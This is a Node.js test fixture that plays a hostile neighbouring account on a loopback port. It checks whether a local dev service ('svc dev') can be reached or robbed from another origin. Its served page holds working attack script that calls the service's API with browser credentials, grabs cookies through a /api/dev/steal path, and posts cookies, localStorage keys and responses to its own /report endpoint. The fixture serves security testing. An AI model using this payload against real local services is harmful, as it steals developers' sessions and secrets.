// A server another account of the machine runs on a loopback port, for
// TestDevNeighbourAccount: it prints its port, then every request it
// receives as one JSON line (method, URL, headers, body), and serves at
// "/" a page that, shown in the developer's browser, tries to use svc dev
// (API_PORT in its query) with whatever the browser would send on its
// own, asks its own server for /api/dev/steal (where a cookie svc dev set
// for its /api/dev/ routes would arrive), and posts what it got to /report.
import { createServer } from "node:http";

const page = `<!doctype html><meta charset="utf-8"><title>neighbour</title><body><script>
const api = "http://127.0.0.1:" + new URLSearchParams(location.search).get("api");
const tries = [
  ["GET", "/api/runs"], ["GET", "/api/dev/env"], ["GET", "/api/health"],
  ["POST", "/api/workflows/ping/start"], ["PUT", "/api/settings/model-provider"],
  ["GET", "/openai/v1/models"],
];
(async () => {
  // Cookies are scoped by host and path, never by port: a cookie svc dev
  // set for /api/dev/ on 127.0.0.1 would come along here.
  await fetch("/api/dev/steal");
  const report = {};
  for (const [method, path] of tries) {
    try {
      const r = await fetch(api + path, { method, credentials: "include", body: method === "GET" ? undefined : "{}" });
      report[method + " " + path] = { status: r.status, body: (await r.text()).slice(0, 200) };
    } catch (err) {
      report[method + " " + path] = { error: String(err) };
    }
  }
  report.localStorage = Object.keys(localStorage);
  report.cookie = document.cookie;
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
  document.body.append(Object.assign(document.createElement("p"), { id: "done", textContent: "done" }));
})();
</script>`;

const server = createServer((req, res) => {
  let body = "";
  req.on("data", (c) => (body += c));
  req.on("end", () => {
    console.log(JSON.stringify({ method: req.method, url: req.url, headers: req.headers, body }));
    if (req.url.startsWith("/report")) {
      res.writeHead(204).end();
      return;
    }
    res.writeHead(200, { "content-type": "text/html" }).end(page);
  });
});
server.listen(0, "127.0.0.1", () => console.log(JSON.stringify({ port: server.address().port })));
